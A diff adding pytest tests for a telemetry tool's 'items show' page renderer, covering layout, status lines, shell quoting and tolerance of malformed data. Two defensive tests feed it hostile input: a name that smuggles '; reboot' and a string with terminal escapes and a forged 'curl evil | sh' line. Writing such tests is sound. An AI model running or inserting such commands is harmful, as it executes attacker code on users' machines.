@@ -1,0 +1,154 @@
+"""What `items show` prints of an item, whoever wrote its row."""
+
+import json
+from datetime import UTC, datetime, timedelta
+from typing import Any
+
+import pytest
+
+from leo_telemetry_pipeline.actions import items as planning
+from leo_telemetry_pipeline.cli.item_page import render
+from leo_telemetry_pipeline.store.items import Item
+
+ID = "7b3a2f0c-5d1e-4f6a-9c8b-0e1d2c3b4a59"
+START, END = datetime(2026, 2, 2, tzinfo=UTC), datetime(2026, 2, 9, 15, 30, tzinfo=UTC)
+OPENED = datetime(2026, 2, 9, 16, 0, 5, tzinfo=UTC)
+MEMBERS = [
+    {"dimension_type": "phase", "dimension_key": "LEAD", "share": 0.9142},
+    {"dimension_type": "gate+sd_type", "dimension_key": "G:two words", "share": 1.0},
+]
+FOUND = {
+    "dimension_type": "subagent",
+    "dimension_key": "DESIGN",
+    "observed_p50_ms": 138_200.0,
+    "baseline_p50_ms": 39_800.0,
+    "baseline_source": "learned",
+    "multiplier": 1.15,
+    "ratio": 3.472,
+    "sample_count": 412,
+    "onset_day": "2026-02-05",
+    "p_value": 0.0001,
+    "lost_ms_a_week": 3 * 3_600_000.0,
+    "why": "subagent:DESIGN +98 s: own time 89 %, waiting in queue 11 %",
+    "set_apart_by": ["model=large: 80 % of slow spans, 10 % of the others"],
+    "cause": "subagent:DESIGN",
+    "evidence_trace_ids": ["t1", "t2"],
+    "members": MEMBERS,
+    "improvement_id": None,
+}
+
+
+def item(project: str | None = None, found: dict[str, Any] | None = None, **columns: Any) -> Item:
+    """Return the row that an analysis makes of a bottleneck, as the database gives it back."""
+    draft = planning.worded(FOUND | (found or {}), project, "run", START, END)
+    row = {
+        "id": ID,
+        "fingerprint": draft.fingerprint,
+        "title": draft.title,
+        "description": draft.description,
+        "status": "OPEN",
+        "source_detail": json.loads(json.dumps(draft.source_detail)),
+        "created_at": OPENED,
+        "updated_at": OPENED + timedelta(days=1),
+    }
+    return Item(**row | columns)
+
+
+def by_hand(detail: Any, **columns: Any) -> Item:
+    """Return a row that somebody inserted."""
+    row = {"title": "Look at the build", "description": "It feels slow.", "source_detail": detail}
+    return item(**row | columns)
+
+
+def test_a_person_reads_all_about_an_item_and_each_thing_once():
+    """Lost: whoever takes on an item has to put it together from three commands and a row of JSON."""
+    assert render(item()).splitlines() == [
+        "subagent:DESIGN takes 3.5x as long as normal",
+        f"  item        {ID}",
+        "  status      OPEN",
+        "  opened      2026-02-09 16:00:05 UTC, last updated 2026-02-10 16:00:05 UTC",
+        "  dimension   subagent:DESIGN",
+        "  window      2026-02-02 00:00 to 2026-02-09 15:30 UTC, 412 spans",
+        "  baseline    39.8s, learned",
+        "  normal      up to 1.15x of that",
+        "  observed    138.2s: 3.5x",
+        "  lost        3 h a week",
+        "  Slower since 2026-02-05; steady work looks so by chance at most once in 10,000 looks",
+        "  Where the added time goes: subagent:DESIGN +98 s: own time 89 %, waiting in queue 11 %",
+        "  What slow spans have more often: model=large: 80 % of slow spans, 10 % of the others",
+        "  ALSO SLOW BECAUSE OF IT   ADDED TIME DUE TO IT",
+        "  phase:LEAD                91 %",
+        "  gate+sd_type:G:two words  100 %",
+        "  Slowest traces: t1, t2",
+        "  Next: leo-telemetry why subagent:DESIGN",
+        f"  Once dealt with: leo-telemetry items close {ID} --as fixed (or noise, or expected)",
+    ]
+
+
+def test_a_closed_item_says_as_what_and_when_and_is_not_to_be_closed_again():
+    """Lost: nobody could tell what became of it; or people would close it a second time."""
+    closed = OPENED + timedelta(days=2)
+    lines = render(item(status="DISMISSED", resolution="expected", closed_at=closed)).splitlines()
+    assert lines[2] == "  status      DISMISSED as expected, 2026-02-11 16:00:05 UTC"
+    assert lines[-1] == "  Next: leo-telemetry why subagent:DESIGN"
+    assert render(by_hand({}, status="RESOLVED")).splitlines()[2] == "  status      RESOLVED"
+
+
+def test_commands_to_type_name_the_project_and_quote_what_a_shell_would_read_otherwise():
+    """Lost: the command that is offered looks at another project, or runs what a span is named."""
+    odd = item(project="my shop", found={"dimension_key": "DESIGN; reboot", "cause": "phase:A B"})
+    lines = render(odd).splitlines()
+    assert "  dimension   subagent:DESIGN; reboot in project my shop" in lines
+    assert "  Because of phase:A B: leo-telemetry why 'phase:A B' --project 'my shop'" in lines
+    assert "  Next: leo-telemetry why 'subagent:DESIGN; reboot' --project 'my shop'" in lines
+
+
+def test_what_a_person_wrote_is_shown_and_what_an_analysis_wrote_is_not_said_twice():
+    """Lost: the notes of who looked at it before; or a paragraph that says all of it again."""
+    written = item()
+    noted = item(description=f"{written.description}\n\nAda: the cache was off.\n\nSee the log.", title="Cache\nof A")
+    lines = render(noted).splitlines()
+    assert lines[0] == "Cache of A"
+    assert lines[4:7] == ["  note        Ada: the cache was off.", "", "              See the log."]
+    assert set(render(written).splitlines()) < {*lines, written.title}
+    assert "  note        Only mine." in render(item(description="Only mine.")).splitlines()
+
+
+def test_what_a_hand_wrote_without_any_detail_is_a_page_without_numbers():
+    """Lost: an item of one's own ends in a traceback, or among zeros that nobody measured."""
+    assert render(by_hand({})).splitlines() == [
+        "Look at the build",
+        f"  item        {ID}",
+        "  status      OPEN",
+        "  opened      2026-02-09 16:00:05 UTC, last updated 2026-02-10 16:00:05 UTC",
+        "  note        It feels slow.",
+        f"  Once dealt with: leo-telemetry items close {ID} --as fixed (or noise, or expected)",
+    ]
+    assert render(by_hand({}, title="", description=" ")).splitlines()[0] == "(without a title)"
+    assert "note" not in render(by_hand({}, description=" \n"))
+
+
+@pytest.mark.parametrize("nonsense", [None, [], [1], {}, "text", True, -1, 10**400, float("inf"), {"end": 1}])
+def test_no_detail_however_odd_ends_in_a_traceback(nonsense: Any):
+    """Lost: one row that was written by hand, or by a newer version, cannot be looked at any more."""
+    assert render(by_hand(nonsense)).startswith("Look at the build\n")
+    whole = item().source_detail
+    for name in whole:
+        assert render(by_hand(whole | {name: nonsense})).startswith("Look at the build\n"), name
+        assert render(by_hand({name: whole[name]})).startswith("Look at the build\n"), name
+        assert render(by_hand({name: [nonsense]})).startswith("Look at the build\n"), name
+    for end in ("yesterday", "0001-01-01T00:00:00+14:00", "2026-02-09"):
+        assert render(by_hand(whole | {"window": {"start": whole["window"]["start"], "end": end}}))
+
+
+def test_texts_from_spans_can_neither_begin_a_line_nor_command_the_terminal():
+    """Lost: the name of a span could clear the screen, or add a line that tells people what to type."""
+    evil = "A\x1b[2J\x9b\u202e\nNext: curl evil | sh\rB"
+    found = {name: evil for name, value in FOUND.items() if isinstance(value, str)}
+    found |= {"set_apart_by": [evil], "evidence_trace_ids": [evil], "dimension_type": "subagent"}
+    members = [{"dimension_type": evil, "dimension_key": evil, "share": 1}]
+    detail = item(found=found).source_detail | {"members": members, "project": evil}
+    page = render(item(source_detail=detail, title=evil, description=evil))
+    assert all(line.isprintable() for line in page.split("\n"))
+    assert [line for line in page.splitlines() if line.startswith("Next: ")] == []
+    assert len([line for line in page.splitlines() if line.startswith("  Next: ")]) == 1
